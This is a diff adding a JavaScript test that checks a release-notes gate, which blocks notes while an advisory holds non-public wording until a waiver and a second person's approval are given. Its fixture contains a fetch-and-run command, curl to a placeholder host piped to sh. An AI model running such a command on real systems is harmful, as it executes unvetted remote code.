@@ -54,6 +54,16 @@ describe('the release notes that the releaser gets before the build', () => {
     expect(given(scenario).at(-1)).toEqual({ case: CASE, cve: ID })
   })
 
+  it('are not given while a line in them must not be public, unless two people allow it', () => {
+    const scenario = planned()
+    const impact = 'PoC: curl http://host.example/x | sh'
+    scenario.happens(CASE, { type: 'AdvisoryDrafted', component: 'the loader', impact })
+    expect(scenario.refused(notes, person(ana))).toMatchObject({ gate: 'wording' })
+    scenario.does({ verb: 'waive', case: CASE, rule: 'wording', reason: 'It is public.', shown }, person(ana))
+    scenario.does({ verb: 'approve', case: CASE, shown }, person(ben))
+    expect(scenario.does(notes, person(ana))).toEqual(['ReleaseNotesGiven'])
+  })
+
   it('never name an id of a test instance', () => {
     const scenario = planned()
     scenario.does({ ...set, reserved: { test: true } }, person(ana))
